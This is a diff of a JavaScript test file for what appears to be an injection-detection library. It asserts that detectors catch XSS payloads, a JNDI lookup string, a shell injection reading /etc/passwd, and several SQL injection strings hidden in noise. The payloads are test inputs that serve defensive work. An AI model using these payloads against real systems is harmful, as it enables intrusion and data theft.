@@ -29,6 +29,10 @@ describe('noise', () => {
     assert.ok(detectMarkup(`${NOISE}<img src=x onerror=alert(1)>${NOISE}`));
     assert.ok(detectMarkup(`${NOISE}<script>alert(1)</script>`));
     assert.ok(detectTemplate(`${NOISE}\${jndi:ldap://203.0.113.5/a}${NOISE}`));
-    assert.ok(detectShell(`${NOISE};cat /etc/passwd;${NOISE}`) ?? detectShell(`x;cat /etc/passwd`));
+    const open = NOISE.replaceAll(/["']/g, '');
+    assert.ok(detectShell(`${open};cat /etc/passwd;${open}`));
+    for (const attack of ["' or 1=1#", "'/**/or/**/1=1#", '1 union select 1,2#']) {
+      assert.ok(detectSql(`${open}${attack}${open}`), attack);
+    }
   });
 });
